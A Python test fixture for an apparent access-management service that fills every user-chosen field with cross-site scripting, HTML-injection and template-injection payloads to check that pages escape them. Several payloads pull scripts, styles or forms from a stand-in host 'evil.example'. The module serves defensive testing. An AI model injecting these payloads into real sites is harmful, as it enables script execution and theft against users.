"""Texts that would inject scripts, styles or links if a page did not escape them."""

from typing import Final

from keyosk.installation import Installation
from keyosk.model import OPERATOR, Grant, Kind, Scope

_BREAKOUTS: Final = ("", '">', "'>", "</title></textarea></option></code>")
_PAYLOADS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>x",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example></object>",
    "<math><mtext></mtext><mglyph><img src onerror=alert(1)></mglyph></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<div hx-on:load=alert(1) data-hx-get=/console>",
    "onmouseover=alert(1) x=",
    "{{ 7*7 }}{% raw %}{{ config }}",
    "javascript:alert(1)//",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "</style><style>*{background:url(//evil.example/x);behavior:url(x)}</style>",
    "';alert(1);'${alert(1)}#{7*7}<%= 7*7 %>`",
    "<a href='&#106;avascript:alert(1)' ping=//evil.example>x</a>",
)
CORPUS: Final = tuple(start + payload for payload in _PAYLOADS for start in _BREAKOUTS)


def batches(longest: int) -> list[str]:
    """The corpus as few texts, as many strings after one another as fit."""
    texts = [""]
    for text in CORPUS:
        if len(texts[-1]) + 1 + len(text) > longest:
            texts.append("")
        texts[-1] = f"{texts[-1]} {text}".strip()
    return texts


#: As long as a name may be.
TEXTS: Final = batches(200)
#: The same as names of a browser: in a header UTF-8 is read as Latin-1.
AGENTS: Final = tuple(text.encode().decode("latin-1") for text in TEXTS)


def fill(keyosk: Installation) -> None:
    """Have every text that somebody may choose be one of them."""
    for number, text in enumerate(TEXTS):
        keyosk.services.create(
            OPERATOR,
            name=f"todo{number}",
            title=text,
            description=text,
            contact=text,
            scopes=[Scope(f"todo{number}:do", text)],
        )
        role = f"role{number}"
        keyosk.roles.create(OPERATOR, name=role, description=text, scopes=[f"todo{number}:do"])
        account = keyosk.grants.create_account(
            OPERATOR, [Grant(role=role)], username=f"user{number}", display_name=text
        )
        keyosk.api_keys.create(OPERATOR, account.id, name=text, description=text)
        keyosk.issuers.create(
            OPERATOR,
            name=f"ci{number}",
            description=text,
            issuer="https://ci.example.org",
            audience=f"ci{number}",
            jwks_uri="https://ci.example.org/keys",
            required_claims=(text,),
        )
        keyosk.grants.create_account(OPERATOR, [], username=f"deployer{number}", kind=Kind.MACHINE)
        keyosk.workload_rules.create(
            OPERATOR,
            f"ci{number}",
            name="main",
            description=text,
            claims={text: (text.replace("*", "+"), 1)},
            account=f"deployer{number}",
        )
